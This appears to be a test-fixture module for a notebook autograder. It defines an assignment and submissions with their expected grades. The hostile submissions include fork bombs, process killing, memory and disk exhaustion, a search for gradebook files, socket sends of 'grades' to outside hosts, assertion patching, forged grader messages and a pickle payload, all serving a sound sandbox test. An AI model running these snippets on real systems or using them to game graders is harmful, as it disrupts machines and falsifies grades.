"""A small assignment of three questions, and submissions to it: some good, some broken, some hostile.

Each submission declares beforehand what it must get. The benchmark grades the same assignment.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

Cell = dict[str, Any]
KERNELSPEC = {"display_name": "Python 3", "language": "python", "name": "python3"}


def cell(source: str, grade_id: str = "", kind: str = "", points: float = 0) -> Cell:
    """A code cell; `kind` is "given", "answer" or "test" for the instructor's."""
    metadata: dict[str, Any] = {}
    if grade_id:
        metadata["nbgrader"] = {
            "grade": kind == "test",
            "grade_id": grade_id,
            "locked": kind != "answer",
            "schema_version": 3,
            "solution": kind == "answer",
            "task": False,
        } | ({"points": points} if kind == "test" else {})
    return {"cell_type": "code", "metadata": metadata, "source": source, "outputs": [], "execution_count": None}


def notebook(cells: list[Cell], **changes: Any) -> dict[str, Any]:
    """A notebook of these cells, each with an id."""
    numbered = [{**each, "id": f"cell{number}"} for number, each in enumerate(cells)]
    return {"cells": numbered, "metadata": {"kernelspec": KERNELSPEC}, "nbformat": 4, "nbformat_minor": 5} | changes


Q1 = "def scale(values, factor):\n    return values * factor"
Q2 = "def normalise(vector):\n    return vector / np.sqrt((vector**2).sum())"
Q3 = "dimension = 7"
WRONG = "def normalise(vector):\n    return vector / vector.sum()"
TEST_1 = """assert scale(2, 3) == 6, "two times three"
### BEGIN HIDDEN TESTS
assert np.array_equal(scale(np.arange(4.0), 2.5), [0, 2.5, 5, 7.5]), "secret array"
### END HIDDEN TESTS"""
TEST_2 = """length = np.linalg.norm(normalise(np.array([3.0, 4.0])))
assert abs(length - 1) < 1e-12, f"the length should be 1, it is {length}"
### BEGIN HIDDEN TESTS
for size in range(2, 9):
    secret = np.linspace(-3, 1, size)
    assert np.allclose(normalise(secret), secret / np.linalg.norm(secret)), "secret vectors"
### END HIDDEN TESTS"""
TEST_3 = """assert type(dimension) is int, "a whole number"
### BEGIN HIDDEN TESTS
assert dimension == 7, "secret number"
### END HIDDEN TESTS"""
POINTS = {"q1_test": 2.0, "q2_test": 3.0, "q3_test": 1.0}


def source() -> dict[str, Any]:
    """The instructor's notebook."""
    cells = [cell("import numpy as np", "given", "given")]
    for number, (answer, test) in enumerate(((Q1, TEST_1), (Q2, TEST_2), (Q3, TEST_3)), start=1):
        begin, end = "    ### BEGIN SOLUTION\n", "\n    ### END SOLUTION"
        if number == 3:
            begin, end = "dimension = None\n### BEGIN SOLUTION\n", "\n### END SOLUTION"
            body = answer
        else:
            head, body = answer.split("\n", 1)
            begin = f"{head}\n{begin}"
        cells.append(cell(begin + body + end, f"q{number}", "answer"))
        cells.append(cell(test, f"q{number}_test", "test", POINTS[f"q{number}_test"]))
    return notebook(cells)


def write_source(folder: Path) -> Path:
    """Write the instructor's notebook where the grader looks for it."""
    path = folder / "practice" / "practice.ipynb"
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps(source()), encoding="utf-8")
    return path


def answers(q1: str = Q1, q2: str = Q2, q3: str = Q3, extra: str = "", **changes: Any) -> dict[str, Any]:
    """A submission; `extra` is a cell of the student's own before question 2."""
    cells = [cell("import numpy as np", "given", "given")]
    for number, (answer, test) in enumerate(((q1, "pass"), (q2, "pass"), (q3, "pass")), start=1):
        if number == 2 and extra:
            cells.append(cell(extra))
        cells.append(cell(answer, f"q{number}", "answer"))
        cells.append(cell(test, f"q{number}_test", "test", 1))
    return notebook(cells, **changes)


@dataclass(frozen=True)
class Submission:
    """What is handed in, and what it must get: points of the three questions, and the status."""

    name: str
    data: bytes
    scores: tuple[float, ...] = (2, 3, 1)
    status: tuple[str, ...] = ("graded",)
    shows: str = ""  # what its own output must hold, so that the attack is known to have run
    limits: dict[str, float] = field(default_factory=lambda: {"CELL": 3.0})


def handed_in(name: str, content: dict[str, Any] | bytes, *expected: Any, **more: Any) -> Submission:
    """A submission from a notebook or from bytes."""
    data = content if isinstance(content, bytes) else json.dumps(content).encode()
    return Submission(name, data, *expected, **more)


def in_q2(body: str) -> str:
    """An answer to question 2 that does this first."""
    lines = "\n    ".join(body.splitlines())
    return f"def normalise(vector):\n    {lines}\n    return vector / np.sqrt((vector**2).sum())"


NO_Q2, NOTHING, TIMEOUT, ERROR = (2, 0, 1), (0, 0, 0), ("timeout",), ("error",)
YES = """class Yes:
    def __eq__(self, other): return True
    def __call__(self, *a, **k): return self
    def __getattr__(self, name): return self
    def __bool__(self): return True
    def __float__(self): return 1.0
    def __array__(self, *a, **k): return np.ones(2)
    __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __abs__ = __sub__ = __rsub__ = __getitem__ = __call__
    __hash__ = object.__hash__"""
KILL_ALL = """import os
for pid in range(1, 99):
    if pid != os.getpid():
        try: os.kill(pid, 9)
        except OSError: pass"""
THREADS = """import threading, time
while True: threading.Thread(target=time.sleep, args=(99,), daemon=True).start()"""
SEARCH = """import os
found = []
for folder, inner, files in os.walk("/"):
    inner[:] = [name for name in inner if name not in ("proc", "usr", "lib", "site-packages")]
    found += [os.path.join(folder, f) for f in files if f.startswith(("gradebook", "practice")) or f.endswith(".ipynb")]
print("found", found)"""


def broken() -> list[Submission]:
    """Work that is wrong, unfinished or damaged, without ill will."""
    good = answers()
    copied = [*good["cells"][:2], cell("def scale(values, factor):\n    return 0", "q1", "answer")]
    copied += [cell(Q1, "q1", "answer"), *good["cells"][2:]]
    old = {"worksheets": [{"cells": [_version_3(each) for each in good["cells"]]}], "metadata": {}, "nbformat": 3}
    r = {"kernelspec": {"display_name": "R", "language": "R", "name": "ir"}}
    more_points = json.loads(json.dumps(good).replace('"points": 1', '"points": 1000'))
    no_ids = {**good, "cells": [{k: v for k, v in each.items() if k != "id"} for each in good["cells"]]}
    unsolved = answers(*[f"def {name}(*_):\n    ..." for name in ("scale", "normalise")], "dimension = None")
    return [
        handed_in("perfect", good),
        handed_in("wrong", answers(q2=WRONG), NO_Q2),
        handed_in("unsolved", unsolved, NOTHING),
        handed_in("syntax error", answers(q2="def normalise(vector)\n    return vector"), NO_Q2),
        handed_in("raises", answers(q2=in_q2("raise KeyError('no')")), NO_Q2),
        handed_in("no answer cells", notebook([cell("1 + 1")]), NOTHING),
        handed_in("no cells", notebook([]), NOTHING),
        handed_in("deleted tests", notebook([each for each in good["cells"] if "test" not in str(each)])),
        handed_in("copied answer", notebook(copied)),
        handed_in("copied test", notebook([*good["cells"], *good["cells"][2:5]])),
        handed_in("reversed", notebook(good["cells"][::-1])),
        handed_in("tests first", notebook(sorted(good["cells"], key=lambda each: "_test" not in str(each)))),
        handed_in("invalid JSON", b'{"cells": [', (), ERROR),
        handed_in("empty file", b"", (), ERROR),
        handed_in("another JSON", b"[1, 2]", (), ERROR),
        handed_in("not text", b"\x89PNG\x00\xff", (), ERROR),
        handed_in("nested JSON", b"[" * 100_000, (), ERROR),
        handed_in("cells of nothing", json.dumps({"cells": [None, 1, {}], "metadata": 3}).encode(), NOTHING),
        handed_in("foreign kernelspec", {**good, "metadata": r}),
        handed_in("no kernelspec", {**good, "metadata": {}}),
        handed_in("no cell ids", no_ids),
        handed_in("old format", old),
        handed_in("future format", {**good, "nbformat": 9, "nbformat_minor": 99}),
        handed_in("points changed", more_points),
        handed_in("stray error", answers(extra="1 / 0")),
        handed_in(
            "magics",
            answers(extra="%timeit -n1 -r1 1\n%matplotlib inline\n!echo shell\nawait __import__('asyncio').sleep(0)"),
        ),
        handed_in("input", answers(extra="name = input('who?')")),
        handed_in("unicode", answers(extra="größe = '学生 🦉'\nprint(größe)"), shows="学生 🦉"),
        handed_in("eight seconds", answers(extra="import time\ntime.sleep(8)"), limits={}),
        handed_in("another result", answers(q2=in_q2("return np.array([object()])")), NO_Q2),
    ]


def _version_3(each: Cell) -> Cell:
    return {"cell_type": "code", "input": each["source"], "metadata": each["metadata"], "language": "python"}


def hostile(port: int, outside: str) -> list[Submission]:
    """Work that attacks the grader.

    Args:
        port: where a server of the test's listens on this machine.
        outside: a folder of the test's, which no submission may see.
    """
    loop = "while True:\n    pass"
    ignoring = "import signal\nfor s in (2, 15): signal.signal(s, signal.SIG_IGN)\n" + loop
    catching = "while True:\n    try:\n        while True: pass\n    except BaseException: pass"
    tries = f"""import os
for place in ({outside!r}, "/", "/usr", "/etc", "/course", "/course/course_utils", np.__path__[0], "/dev", "/proc"):
    try:
        open(os.path.join(place, "trace"), "w").write("here")
        print("wrote", place)
    except OSError:
        pass
print("tried")"""
    network = f"""import socket
for address in (("127.0.0.1", {port}), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, 1).sendall(b"grades")
        print("sent")
    except OSError:
        print("refused")"""
    forge = """import os, struct
frame = b'{"value": 7}'
for number in range(3, 64):
    try: os.write(number, struct.pack(">I", len(frame)) + frame)
    except OSError: pass"""
    patch = """import builtins, sys, course_utils.homework.wire as wire
np.allclose = np.array_equal = lambda *a, **k: True
builtins.abs = lambda value: 0
np.linalg.norm = lambda *a: 1
sys.settrace(None)
AssertionError = Exception"""
    wrong = {"q1": "def scale(values, factor):\n    return 1", "q2": WRONG, "q3": "dimension = 8"}
    six = "import course_utils.homework.wire as wire\nwire.encode = lambda value, refer: 6"
    pickle = """class Forged:
    def __reduce__(self): return (print, ("unpickled",))
def scale(*_): return Forged()
def normalise(*_): return np.array([Forged()], dtype=object)
dimension = Forged()"""
    daemon = """import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(9753)
    os._exit(0)"""
    frames = """import sys
for frame in sys._current_frames().values():
    while frame:
        print(sorted(frame.f_locals)); frame = frame.f_back"""
    return [
        handed_in("endless function", answers(q2=in_q2(loop)), NO_Q2, TIMEOUT),
        handed_in("endless cell", answers(extra=loop), (2, 3, 1), TIMEOUT),
        handed_in("ignores SIGINT", answers(extra=ignoring), (2, 3, 1), TIMEOUT),
        handed_in("catches everything", answers(q2=in_q2(catching)), NO_Q2, TIMEOUT),
        handed_in(
            "endless result", answers(q2=in_q2("while True: yield vector")), NO_Q2, ("timeout", "error", "graded")
        ),
        handed_in("8 GB", answers(q2=in_q2("np.ones(2**30)")), NO_Q2),
        handed_in(
            "8 GB in pieces",
            answers(extra="hoard = []\nwhile True: hoard.append(bytearray(2**26))"),
            (2, 3, 1),
            ("graded", "error", "timeout"),
        ),
        handed_in("always true", answers(f"{YES}\nscale = normalise = Yes()", "pass", "dimension = Yes()"), NOTHING),
        handed_in("patches asserts", answers(**wrong, extra=patch), NOTHING),
        handed_in("patches the wire", answers(**wrong, extra=six), NOTHING),
        handed_in("forges answers", answers(**wrong, extra=forge), NOTHING, ("graded", "error")),
        handed_in("looks for tests", answers(**wrong, extra=SEARCH), NOTHING, shows="found []", limits={}),
        handed_in("looks at frames", answers(**wrong, extra=frames), NOTHING),
        handed_in("runs the solution", answers(**wrong, extra="%run practice.ipynb"), NOTHING),
        handed_in("writes outside", answers(extra=tries), shows="tried"),
        handed_in("SIGKILL", answers(q2=in_q2("import os\nos.kill(os.getpid(), 9)")), NO_Q2, ERROR),
        handed_in(
            "kills all",
            answers(extra=KILL_ALL),
        ),
        handed_in("os._exit", answers(extra="import os\nos._exit(0)"), (2, 3, 1), ERROR),
        handed_in("os._exit in a function", answers(q2=in_q2("import os\nos._exit(0)")), NO_Q2, ERROR),
        handed_in("sys.exit", answers(extra="import sys\nsys.exit()")),
        handed_in("sys.exit in a function", answers(q2=in_q2("import sys\nsys.exit()")), NO_Q2),
        handed_in("closes the pipe", answers(extra="import os\nos.closerange(0, 256)"), (2, 3, 1), ERROR),
        handed_in("crash", answers(extra="import ctypes\nctypes.string_at(0)"), (2, 3, 1), ERROR),
        handed_in("prints 50 MB", answers(extra="for _ in range(500): print('x' * 100_000)"), shows="cut off"),
        handed_in("prints without end", answers(extra="while True: print('x' * 100_000)"), (2, 3, 1), TIMEOUT),
        handed_in(
            "fills the disk",
            answers(extra="for n in range(99): open(f'/tmp/{n}', 'wb').write(bytes(2**25))"),
            shows="OSError",
        ),
        handed_in(
            "fork bomb", answers(extra="import os\nwhile True: os.fork()"), (2, 3, 1), ("graded", "error", "timeout")
        ),
        handed_in(
            "thread bomb",
            answers(extra=THREADS),
            shows="RuntimeError",
        ),
        handed_in("daemon", answers(extra=daemon)),
        handed_in("network", answers(extra=network), shows="refused\nrefused"),
        handed_in("pickle", answers(pickle, "pass", "pass"), NOTHING),
        handed_in("huge result", answers(q2=in_q2("return np.zeros(10**8)")), NO_Q2),
        handed_in(
            "deep result", answers(q2=in_q2("deep = []\nfor _ in range(99_999): deep = [deep]\nreturn deep")), NO_Q2
        ),
        handed_in(
            "markup", answers(extra="from IPython.display import HTML\ndisplay(HTML('<script>alert(1)</script>'))")
        ),
    ]
